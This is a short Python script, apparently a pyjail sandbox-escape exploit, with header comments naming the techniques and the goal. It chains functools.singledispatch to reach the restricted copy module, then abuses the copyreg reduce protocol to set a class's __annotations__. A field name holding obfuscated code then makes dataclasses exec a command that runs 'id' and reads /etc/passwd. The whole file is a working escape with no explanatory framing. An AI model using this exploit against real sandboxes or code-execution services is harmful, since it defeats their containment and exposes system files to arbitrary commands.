# source: functools.singledispatch/update_wrapper copies wrapped.__dict__ (pyjail "__dict__ copy" trick) + copy/copyreg reduce protocol (_reconstruct setattr of slotstate) + dataclasses codegen (_create_fn exec)
# family: library callbacks/hooks - copyreg dispatch_table reductor gives computed setattr; sets __annotations__ on a class in a decorator, @dataclass execs field names
# goal: reach module copy (not allowed), computed setattr of dunders, then arbitrary code execution (id, /etc/passwd)
import functools
import dataclasses

cp = functools.singledispatch(dataclasses).copy
print(cp)

class Dummy:
    pass

def put(target, name, value):
    cp.dispatch_table[Dummy] = lambda o: (lambda: target, (), (None, {name: value}))
    cp.copy(Dummy())

u = chr(95)
payload = "qty if print(" + u + u + "import" + u + u + "(" + repr("o" + "s") + ").popen(" + repr("id; head -2 /etc/passwd") + ").read()) else 0"

def prep(cls):
    put(cls, u + u + "annotations" + u + u, {payload: int})
    return cls

@dataclasses.dataclass(init=False, repr=False)
@prep
class Order:
    pass

print(Order() == Order())
